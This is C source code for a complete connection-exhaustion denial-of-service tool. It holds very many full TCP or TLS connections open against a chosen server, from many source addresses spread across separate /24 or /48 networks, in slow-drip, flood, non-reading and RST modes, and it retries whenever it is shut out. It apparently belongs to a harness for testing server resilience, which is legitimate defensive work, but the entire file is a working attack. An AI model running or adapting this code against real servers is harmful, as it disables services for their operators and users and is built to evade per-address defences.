/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * attack: attackers that complete their handshakes, many addresses of them in one process.
 *
 * Each of --connections slots belongs to one address and is always either waiting for its turn,
 * connecting, or open and doing what the kind says; when its connection ends, for whatever reason,
 * it comes back after --retry. So a slot that is shut out keeps knocking, and "held" is what the
 * attacker has at each moment of what he wants. What is said, and how fast, is common/speech.c's;
 * --tls puts it into TLS.
 *
 * Every wait of one state has the same length, so a state's slots queue in the order they are due.
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <unistd.h>
#include "common/address.h"
#include "common/h2_frames.h"
#include "common/options.h"
#include "common/run.h"
#include "common/speech.h"
#include "common/wire.h"

#define EVENTS_MAX      512
#define SECONDS_MAX     3600
#define CONNECTIONS_MAX 1000000
#define TINY_BUFFER     2048 /* receive buffer of those who don't read */
#define VERSES_A_TURN   4    /* that one connection may say before it is another's turn */
#define READ_SIZE       16384

enum state { WAITING, CONNECTING, SHAKING, OPEN, STATES };

struct slot {
	enum state state;
	uint32_t events; /* that are waited for */
	struct wire wire;
	uint64_t verse; /* that is being said, */
	size_t said;    /* of it, so far */
	struct h2_reader reader;
	uint64_t due; /* WAITING: may connect; CONNECTING, SHAKING: gives up; OPEN: speaks again */
	uint8_t source[16];
	struct slot *older, *newer;
};

struct queue {
	struct slot *oldest, *newest;
};

struct counts {
	uint64_t attempted, established, refused, unanswered, reset, closed, local, answered;
	uint64_t handshakes, verses, sent_bytes, received_bytes;
};

struct attack {
	struct endpoint destination;
	struct prefix prefix;
	const char *kind_name, *path;
	uint64_t connections, sources, rate, verse_rate;
	double seconds, interval, retry, patience, knock;
	bool tls, spread, abort, json;

	struct speech speech;
	int epoll;
	struct slot *slots;
	struct queue queues[STATES];
	struct counts counts;
	uint64_t held, held_peak, held_sum, held_samples;
	uint64_t verses_allowed; /* so far */
};

static void slot_enter(struct attack *attack, struct slot *slot, enum state state, uint64_t due)
{
	struct queue *queue = &attack->queues[slot->state];

	if (slot->older || slot->newer || queue->oldest == slot) {
		*(slot->older ? &slot->older->newer : &queue->oldest) = slot->newer;
		*(slot->newer ? &slot->newer->older : &queue->newest) = slot->older;
	}
	queue = &attack->queues[state];
	slot->state = state;
	slot->due = due;
	slot->newer = NULL;
	slot->older = queue->newest;
	*(queue->newest ? &queue->newest->newer : &queue->oldest) = slot;
	queue->newest = slot;
}

static void slot_end(struct attack *attack, struct slot *slot, uint64_t now, uint64_t *counter)
{
	(*counter)++;
	if (slot->state >= SHAKING)
		attack->held--;
	wire_close(&slot->wire);
	slot_enter(attack, slot, WAITING, now + (uint64_t)(attack->retry * 1e9));
}

static void slot_await(struct attack *attack, struct slot *slot, uint32_t events)
{
	struct epoll_event wanted = {.events = events, .data.ptr = slot};

	if (events != slot->events)
		epoll_ctl(attack->epoll, slot->events ? EPOLL_CTL_MOD : EPOLL_CTL_ADD,
			  slot->wire.fd, &wanted);
	slot->events = events;
}

static void slot_connect(struct attack *attack, struct slot *slot, uint64_t now)
{
	const struct linger nothing = {.l_onoff = 1};
	int fd = connect_from(slot->source, &attack->destination,
			      attack->speech.kind->deaf ? TINY_BUFFER : 0);

	attack->counts.attempted++;
	if (fd >= 0 &&
	    !wire_open(&slot->wire, fd, attack->speech.tls, speech_cover(&attack->speech))) {
		close(fd);
		fd = -1;
	}
	if (fd < 0) {
		slot_end(attack, slot, now, &attack->counts.local);
		return;
	}
	if (attack->abort)
		setsockopt(fd, SOL_SOCKET, SO_LINGER, &nothing, sizeof(nothing));
	slot->events = 0;
	slot_enter(attack, slot, CONNECTING, now + (uint64_t)(attack->knock * 1e9));
	slot_await(attack, slot, EPOLLOUT);
}

/* Whether it may go on speaking without being asked to. */
static bool slot_may_speak(const struct attack *attack, const struct slot *slot)
{
	if (slot->verse == 0 || slot->said)
		return true;
	return attack->speech.kind->pace == FLOOD && !attack->verse_rate;
}

enum said { SAID, WAITS, SILENT };

/* Says up to @bytes of what is left of a verse. */
static enum said slot_say(struct attack *attack, struct slot *slot, uint64_t now, size_t bytes)
{
	const uint8_t *verse;
	size_t length = speech_verse(&attack->speech, slot->verse, &verse),
	       left = length - slot->said;
	ssize_t sent = 0;

	if (length) {
		sent = wire_send(&slot->wire, verse + slot->said, left < bytes ? left : bytes);
		if (sent == -EAGAIN)
			return WAITS;
	}
	if (sent < 0) {
		slot_end(attack, slot, now, &attack->counts.reset);
		return SILENT;
	}
	slot->said += (size_t)sent;
	attack->counts.sent_bytes += (size_t)sent;
	if (slot->said < length)
		return WAITS;
	slot->said = 0;
	slot->verse++;
	attack->counts.verses += length > 0;
	return length ? SAID : SILENT;
}

/* Says as much as it may, and waits for what it must. */
static void slot_speak(struct attack *attack, struct slot *slot, uint64_t now)
{
	uint32_t events = EPOLLRDHUP | (attack->speech.kind->deaf ? 0 : EPOLLIN);
	int turns = VERSES_A_TURN;
	enum said said = SAID;

	while (said == SAID && turns-- && slot_may_speak(attack, slot))
		said = slot_say(attack, slot, now, SIZE_MAX);
	if (slot->state != OPEN)
		return;
	if (said != SILENT && slot_may_speak(attack, slot))
		events |= EPOLLOUT;
	slot_await(attack, slot, events);
}

static void slot_open(struct attack *attack, struct slot *slot, uint64_t now)
{
	slot_enter(attack, slot, OPEN, now + (uint64_t)(attack->interval * 1e9));
	slot->verse = slot->said = 0;
	slot->reader = (struct h2_reader){0};
	if (slot->wire.tls)
		attack->counts.handshakes++;
	if (attack->speech.kind->leaves == LEAVES_AT_ONCE)
		slot_end(attack, slot, now, &attack->counts.closed);
	else
		slot_speak(attack, slot, now);
}

static void slot_shake(struct attack *attack, struct slot *slot, uint64_t now)
{
	uint32_t events = 0;
	int done = wire_shake(&slot->wire, &events);

	if (done > 0)
		slot_open(attack, slot, now);
	else if (done == 0)
		slot_await(attack, slot, events);
	else
		slot_end(attack, slot, now, &attack->counts.reset);
}

static void slot_connected(struct attack *attack, struct slot *slot, uint64_t now)
{
	socklen_t length = sizeof(int);
	int error = 0;

	getsockopt(slot->wire.fd, SOL_SOCKET, SO_ERROR, &error, &length);
	if (error) {
		slot_end(attack, slot, now,
			 error == ECONNREFUSED ? &attack->counts.refused : &attack->counts.reset);
		return;
	}
	attack->counts.established++;
	attack->held++;
	if (attack->held > attack->held_peak)
		attack->held_peak = attack->held;
	slot_enter(attack, slot, SHAKING, now + (uint64_t)(attack->patience * 1e9));
	if (slot->wire.tls)
		slot_shake(attack, slot, now);
	else
		slot_open(attack, slot, now);
}

/* The server says something, or has had enough. */
static void slot_listen(struct attack *attack, struct slot *slot, uint32_t events, uint64_t now)
{
	const struct kind *kind = attack->speech.kind;
	static uint8_t heard[READ_SIZE];
	ssize_t received;

	if (kind->deaf) {
		slot_end(attack, slot, now,
			 events & EPOLLERR ? &attack->counts.reset : &attack->counts.closed);
		return;
	}
	received = wire_receive(&slot->wire, heard, sizeof(heard));
	if (received == -EAGAIN)
		return;
	if (received <= 0) {
		slot_end(attack, slot, now,
			 received ? &attack->counts.reset : &attack->counts.closed);
		return;
	}
	attack->counts.answered++;
	attack->counts.received_bytes += (size_t)received;
	/* After a GOAWAY there is nothing to be had here. */
	if (kind->leaves == LEAVES_ANSWERED ||
	    (kind->h2 && h2_read_goaway(&slot->reader, heard, (size_t)received)))
		slot_end(attack, slot, now, &attack->counts.closed);
	else if (kind->pace == ANSWERS && !slot->said && !memcmp(heard, "HTTP/1.", 7))
		slot_say(attack, slot, now, SIZE_MAX);
	else if (kind->pace == ONCE && !slot->said)
		wire_forget(&slot->wire); /* thousands of them would fill our own memory */
}

/* A connection's turn: what has come first, as it may end it. */
static void slot_advance(struct attack *attack, struct slot *slot, uint32_t events, uint64_t now)
{
	if (slot->state == CONNECTING) {
		slot_connected(attack, slot, now);
	} else if (slot->state == SHAKING) {
		slot_shake(attack, slot, now);
	} else {
		if (events & ~(uint32_t)EPOLLOUT)
			slot_listen(attack, slot, events, now);
		if (slot->state == OPEN)
			slot_speak(attack, slot, now);
	}
}

/* Its turn, by --interval or --verse-rate. */
static void slot_tick(struct attack *attack, struct slot *slot, uint64_t now)
{
	slot_enter(attack, slot, OPEN, now + (uint64_t)(attack->interval * 1e9));
	if (slot->verse > 0)
		slot_say(attack, slot, now, attack->speech.kind->pace == BYTES ? 1 : SIZE_MAX);
}

static void attack_tick(struct attack *attack, uint64_t now)
{
	enum pace pace = attack->speech.kind->pace;
	struct queue *open = &attack->queues[OPEN];

	while (attack->speech.kind->leaves == LEAVES_DUE && open->oldest &&
	       open->oldest->due <= now)
		slot_end(attack, open->oldest, now, &attack->counts.closed);
	while ((pace == BYTES || pace == VERSES) && open->oldest && open->oldest->due <= now)
		slot_tick(attack, open->oldest, now);
	for (uint64_t i = attack->held;
	     pace == FLOOD && i && open->oldest && attack->counts.verses < attack->verses_allowed;
	     i--)
		slot_tick(attack, open->oldest, now);
}

/* Does what is due in every queue. @allowed: attempts that the rate leaves. */
static void attack_turn(struct attack *attack, uint64_t now, uint64_t allowed)
{
	struct slot *slot;

	while (allowed-- && (slot = attack->queues[WAITING].oldest) && slot->due <= now)
		slot_connect(attack, slot, now);
	for (enum state state = CONNECTING; state <= SHAKING; state++)
		while ((slot = attack->queues[state].oldest) && slot->due <= now)
			slot_end(attack, slot, now, &attack->counts.unanswered);
	attack_tick(attack, now);
	attack->held_sum += attack->held;
	attack->held_samples++;
}

static void attack_run(struct attack *attack)
{
	struct epoll_event events[EVENTS_MAX];
	uint64_t start = run_clock(), now = start, due, spent = 0, before;
	uint64_t end = start + (uint64_t)(attack->seconds * 1e9);

	while (!run_stopped && now < end) {
		due = attack->rate ? (now - start) * attack->rate / SECOND : spent + EVENTS_MAX;
		attack->verses_allowed = (now - start) * attack->verse_rate / SECOND;
		before = attack->counts.attempted;
		attack_turn(attack, now, due - spent);
		/* What could not be used now is not saved up for later. */
		spent = attack->rate ? due : spent + attack->counts.attempted - before;
		int count = epoll_wait(attack->epoll, events, EVENTS_MAX, 1);

		now = run_clock();
		for (int i = 0; i < count; i++)
			slot_advance(attack, events[i].data.ptr, events[i].events, now);
	}
}

/* How far the numbers of neighbours are apart; --spread: so far that each has a /24 or /48. */
static uint64_t attack_stride(const struct attack *attack)
{
	if (!attack->spread)
		return 1;
	return attack->prefix.family == AF_INET ? 1 << 8 : 1 << 16;
}

static bool attack_prepare(struct attack *attack)
{
	uint64_t stride = attack_stride(attack);

	if (!speech_begin(&attack->speech, attack->kind_name, attack->path, attack->tls))
		options_refuse("--kind: there is no '%s', or --path is too long",
			       attack->kind_name);
	if (attack->speech.kind->leaves == LEAVES_AT_ONCE)
		attack->retry = 0; /* one order of waiting for all */
	attack->epoll = epoll_create1(EPOLL_CLOEXEC);
	attack->slots = calloc(attack->connections, sizeof(*attack->slots));
	if (attack->epoll < 0 || !attack->slots)
		return false;
	for (uint64_t i = 0; i < attack->connections; i++) {
		attack->slots[i].wire.fd = -1;
		prefix_host(&attack->prefix, i % attack->sources * stride, attack->slots[i].source);
		slot_enter(attack, &attack->slots[i], WAITING, 0);
	}
	return true;
}

static json_t *attack_result(const struct attack *attack)
{
	const struct counts *counts = &attack->counts;
	const struct {
		const char *name;
		uint64_t value;
	} rows[] = {
		{"attempted", counts->attempted},
		{"established", counts->established},
		{"refused", counts->refused},
		{"unanswered", counts->unanswered},
		{"reset", counts->reset},
		{"closed", counts->closed},
		{"answered", counts->answered},
		{"local", counts->local},
		{"handshakes", counts->handshakes},
		{"verses", counts->verses},
		{"sent_bytes", counts->sent_bytes},
		{"received_bytes", counts->received_bytes},
		{"held", attack->held},
		{"held_peak", attack->held_peak},
	};
	double samples = attack->held_samples ? (double)attack->held_samples : 1;
	json_t *result = json_pack("{s:f}", "held_mean", (double)attack->held_sum / samples);

	for (size_t i = 0; result && i < sizeof(rows) / sizeof(rows[0]); i++)
		json_object_set_new(result, rows[i].name, json_integer((json_int_t)rows[i].value));
	return result;
}

static void list_kinds(void)
{
	for (size_t i = 0; i < speech_kinds_count; i++)
		printf("%s%c", speech_kinds[i].name, i + 1 < speech_kinds_count ? ' ' : '\n');
}

int main(int argc, char **argv)
{
	bool list = false;
	struct attack attack = {.kind_name = "hold",
				.path = "/",
				.connections = 100,
				.sources = 1,
				.rate = 1000,
				.seconds = 10,
				.interval = 1,
				.retry = 1,
				.patience = 5};
	const struct option_row rows[] = {
		{"kind", OPTION_TEXT, &attack.kind_name,
		 "of attack: one of --list; hold unless said"},
		{"list", OPTION_SWITCH, &list, "names the kinds of attack"},
		{"tls", OPTION_SWITCH, &attack.tls, "over TLS"},
		{"destination", OPTION_ENDPOINT, &attack.destination, "the server"},
		{"source-prefix", OPTION_PREFIX, &attack.prefix, "where attackers come from"},
		{"sources", OPTION_COUNT, &attack.sources,
		 "how many addresses of it; 1 unless said"},
		{"spread", OPTION_SWITCH, &attack.spread,
		 "each of them in a /24 or /48 of its own"},
		{"connections", OPTION_COUNT, &attack.connections,
		 "wanted at once; 100 unless said"},
		{"rate", OPTION_COUNT, &attack.rate,
		 "attempts a second at most; 1000 unless said, 0: no limit"},
		{"interval", OPTION_SECONDS, &attack.interval, "between slow bytes; 1 unless said"},
		{"verse-rate", OPTION_COUNT, &attack.verse_rate,
		 "verses a second of a kind that floods; 0 unless said: no limit"},
		{"retry", OPTION_SECONDS, &attack.retry, "before coming back; 1 unless said"},
		{"patience", OPTION_SECONDS, &attack.patience,
		 "with a silent server; 5 unless said"},
		{"knock", OPTION_SECONDS, &attack.knock,
		 "to wait for an answer to a SYN; --patience unless said"},
		{"abort", OPTION_SWITCH, &attack.abort, "end connections by RST, not by FIN"},
		{"path", OPTION_TEXT, &attack.path, "to request; / unless said"},
		{"seconds", OPTION_SECONDS, &attack.seconds, "how long; 10 unless said"},
		{"json", OPTION_SWITCH, &attack.json, "print the result as JSON"},
	};

	options_read(argc, argv, "attacks with complete connections from many addresses", rows,
		     sizeof(rows) / sizeof(rows[0]));
	if (list) {
		list_kinds();
		return 0;
	}
	if (!attack.destination.family || attack.prefix.family != attack.destination.family)
		options_refuse("--destination and --source-prefix are needed, of one family");
	if (!attack.sources ||
	    attack.sources * attack_stride(&attack) > prefix_hosts(&attack.prefix) + 1)
		options_refuse("--sources: at least 1, and not more than the prefix has");
	if (!attack.knock)
		attack.knock = attack.patience;
	if (attack.seconds > SECONDS_MAX)
		options_refuse("--seconds: at most %d", SECONDS_MAX);
	if (!attack.connections || attack.connections > CONNECTIONS_MAX)
		options_refuse("--connections: 1 to %d", CONNECTIONS_MAX);
	if (!attack_prepare(&attack))
		options_refuse("no memory for %llu connections",
			       (unsigned long long)attack.connections);

	run_begin(attack.seconds);
	attack_run(&attack);
	int status = run_report(attack_result(&attack), attack.json);
	for (uint64_t i = 0; i < attack.connections; i++)
		wire_close(&attack.slots[i].wire);
	close(attack.epoll);
	free(attack.slots);
	speech_end(&attack.speech);
	return status;
}
